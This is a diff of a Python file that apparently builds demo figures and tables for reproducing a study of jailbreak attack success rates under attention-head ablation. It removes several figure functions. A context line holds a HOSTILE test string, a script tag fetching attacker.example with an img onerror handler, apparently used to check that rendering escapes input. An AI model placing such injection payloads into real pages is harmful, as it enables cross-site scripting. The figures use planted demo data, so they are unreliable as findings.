@@ -22,7 +22,7 @@ HOSTILE = '<script>fetch("https://attacker.example")</script><img src=x onerror=
 N = 24
 MODEL = "demo:aligned_wrapped"
 DATASETS = ("damage", "theft", "fraud")
-SECONDS = {"fig2": 58.3, "fig11": 131.0, "table2": 12.25}
+SECONDS = {"fig2": 58.3, "table2": 12.25}
 REASON = "demo:aligned_a on theft: nothing ablated, 20 of 24 answers comply already (ASR 0.83)."
 
 
@@ -76,20 +76,6 @@ def fig2() -> Outcome:
     )
 
 
-def fig11() -> Outcome:
-    """Lines in twelve panels, eleven series in one, and a lone point."""
-    panels = [f"template number {number}, {way}" for number, way in product(range(6), ("greedy", "top-5"))]
-    points = [at(2 * x, x=x, series=series, panel=panel) for panel, series, x in product(panels, DATASETS, range(11))]
-    many = [at(x + n, x=x, series=f"method number {n}", panel="") for n, x in product(range(11), (0, 5))]
-    return outcome(
-        "fig11",
-        figure("lines", MODEL, "heads ablated in each prompt", "ASR", points),
-        figure("lines", "Eleven series", "heads ablated in each prompt", "ASR", many),
-        figure("lines", "One point", "heads", "ASR", [at(1, 1, x=3, series="UA", panel="")]),
-        notes=["Not evidence about the paper: refusals were planted in 1-3."],
-    )
-
-
 def fig4b() -> Outcome:
     """Maps of 32 x 32 heads, one of them unscored, and 1,024 of them against a score."""
     heads, scatter = [], []
@@ -131,15 +117,6 @@ def transfer() -> Outcome:
         figure("matrix", MODEL, "tested on", "found on", points, value="change of the ASR"),
         figure("matrix", "Ten by ten", "one", "other", shared, value="heads shared, of 10"),
     )
-
-
-def fig6b() -> Outcome:
-    """Bars of changes below 0, with long names."""
-    methods = ("vanilla", "UA, 1 head", "UA, 3 heads", "mean, 1 head", "mean, 3 heads", "Wanda 50 %", "SparseGPT 50 %")
-    place = {"low": -0.6, "high": 0.06, "n": 100, "series": "", "panel": ""}
-    points = [{**place, "x": method, "y": -0.08 * number} for number, method in enumerate(methods)]
-    y = "change of the mean accuracy, paired over samples of all five zero-shot tasks"
-    return outcome("fig6b", figure("bars", "Change of the mean", "method", y, points, share=False))
 
 
 def fig7() -> Outcome:
@@ -184,12 +161,6 @@ def not_meaningful() -> Outcome:
     """Nothing but a reason."""
     reasons = [REASON, REASON.replace("theft", "fraud")]
     return outcome("fig15", models=["demo:aligned_a"], not_meaningful=reasons)
-
-
-def partly_meaningful() -> Outcome:
-    """One dataset left out, the others shown."""
-    points = [at(count, x=dataset, series="vanilla", panel="") for dataset, count in (("damage", 1), ("fraud", 2))]
-    return outcome("fig17", figure("bars", "demo:aligned_a", "dataset", "ASR", points), not_meaningful=[REASON])
 
 
 def table1() -> Outcome:
@@ -243,7 +214,7 @@ def epsilon() -> Outcome:
 
 def outcomes() -> list[Outcome]:
     """All, in the catalogue's order."""
-    figures = [fig2(), fig11(), fig4b(), transfer(), fig6b(), fig7(), fig13(), not_meaningful(), partly_meaningful()]
+    figures = [fig2(), fig4b(), transfer(), fig7(), fig13(), not_meaningful()]
     return [*figures, table1(), table2(), epsilon()]
 
 
